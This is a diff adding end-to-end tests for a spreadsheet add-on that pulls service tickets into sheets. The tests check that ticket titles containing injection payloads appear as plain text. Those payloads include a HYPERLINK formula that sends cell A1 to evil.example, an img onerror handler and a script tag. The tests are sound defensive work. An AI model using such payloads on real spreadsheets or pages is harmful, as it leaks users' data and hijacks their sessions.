@@ -1,0 +1,103 @@
+// A pull from typing it to its rows, on a page that is never loaded again; and texts of the service that look like code.
+import { describe, expect, it } from 'vitest';
+import { PULL_STATUSES, PULLED_AT_COLUMN, PULLS_COLUMNS, PULLS_SHEET } from '../../src/domain/vocabulary.ts';
+import { LOCALES, type OpenWorkbook, workbooks } from './support/open-workbook.ts';
+
+const open = workbooks();
+
+/** None of them may be more than a text; neither may the name of a pull. */
+const TITLES = [
+  '=HYPERLINK("https://evil.example/?q="&A1;"Clique")',
+  '<b>negrito</b> & <img src="https://evil.example/x.png" onerror="document.title=\'evil\'">',
+  '<script>document.title="evil"</script>',
+];
+/** Five pages: long enough to look at the sheet of pulls meanwhile. */
+const TICKETS = 450;
+const PULL = '<i>Todos</i>';
+
+/** Gives the first tickets of the list these titles. */
+function spoil({ service }: OpenWorkbook): void {
+  TITLES.forEach((titulo, n) => {
+    const ticket = service.tickets()[n];
+    if (ticket === undefined) throw new Error('too few tickets');
+    service.changeTicket(ticket.id, { titulo }, Date.now());
+  });
+}
+
+describe.each(LOCALES)('a pull, %s', (locale) => {
+  it('is typed, refreshed in sight, and shows texts as texts', async () => {
+    const workbook = await open({ locale, connected: true, tickets: TICKETS });
+    const { user, say, language } = workbook;
+    spoil(workbook);
+    const ana = await workbook.person();
+    const pulls = PULLS_SHEET[language];
+    const target = language === 'pt' ? 'Chamados' : 'Tickets';
+    const header = (field: keyof typeof PULLS_COLUMNS) => PULLS_COLUMNS[field][language];
+
+    await ana.choose('refreshAll');
+    await ana.question();
+    await ana.answer('OK');
+    user.paste(pulls, 'A2', [[PULL, language === 'pt' ? 'chamados' : 'tickets', target]]);
+    await expect.poll(() => ana.cell(header('pull'), 2)).toBe(PULL);
+
+    await ana.choose('refreshAll');
+    // It is made, and comes to the front.
+    await expect.poll(() => ana.sheetInFront()).toBe(target);
+    await expect.poll(() => ana.toasts.allTextContents()).toContainEqual(expect.stringContaining(PULL));
+    await ana.goTo(pulls);
+    expect(await ana.cell(header('message'), 2)).toBe(say.pullStart());
+    expect(await ana.cell(header('status'), 2)).toBe(PULL_STATUSES.running[language]);
+    expect(await ana.question()).toBe(`${PULL}: ${say.pullDone(TICKETS, TICKETS, 0)}`);
+    await ana.answer('OK');
+    expect(await ana.cell(header('status'), 2)).toBe(PULL_STATUSES.done[language]);
+    expect(await ana.cell(header('rows'), 2)).toBe(String(TICKETS));
+
+    await ana.goTo(target);
+    for (const [n, title] of TITLES.entries()) {
+      await expect.poll(() => ana.cell(language === 'pt' ? 'Título' : 'Title', n + 2)).toBe(title);
+      await ana.page.getByText(title, { exact: true }).first().click();
+      expect(await ana.page.locator('#cell-text').textContent()).toBe(title);
+    }
+    expect(
+      await ana.page.locator(':is(#grid, #toasts, .formula-bar) :is(b, i, img, script, a)').count(),
+    ).toBe(0);
+    expect(await ana.page.title()).not.toBe('evil');
+  });
+
+  it('is refreshed again from its own sheet, and shows what changed', async () => {
+    const workbook = await open({ locale, connected: true, tickets: 30 });
+    const { service, say, language } = workbook;
+    const ana = await workbook.person();
+    const target = language === 'pt' ? 'Chamados' : 'Tickets';
+    const saved = await ana.callAsPage('savePull', {
+      name: target,
+      resource: 'tickets',
+      sheet: target,
+      filters: '',
+    });
+    expect(saved).toMatchObject({ kind: 'returned', value: { ok: true } });
+    await ana.choose('refreshAll');
+    expect(await ana.question()).toBe(`${target}: ${say.pullDone(30, 30, 0)}`);
+    await ana.answer('OK');
+    await ana.goTo(target);
+    const [first] = service.tickets();
+    if (first === undefined) throw new Error('too few tickets');
+    expect(await ana.cell('ID', 2)).toBe(String(first.id));
+    service.changeTicket(first.id, { titulo: 'Outro título' }, Date.now());
+
+    await ana.choose('refreshSheet');
+    expect(await ana.question()).toContain(`${target}: 30 `);
+    await ana.answer('OK');
+    await ana.page.getByText('Outro título', { exact: true }).first().waitFor();
+    expect(await ana.cell(PULLED_AT_COLUMN[language], 2)).not.toBe('');
+  });
+
+  it('on a sheet that none fills says where to type one', async () => {
+    const workbook = await open({ locale, connected: true });
+    const ana = await workbook.person();
+    const sheet = await ana.sheetInFront();
+    await ana.choose('refreshSheet');
+    expect(await ana.question()).toBe(workbook.say.noPullHere(sheet ?? ''));
+    await ana.answer('OK');
+  });
+});
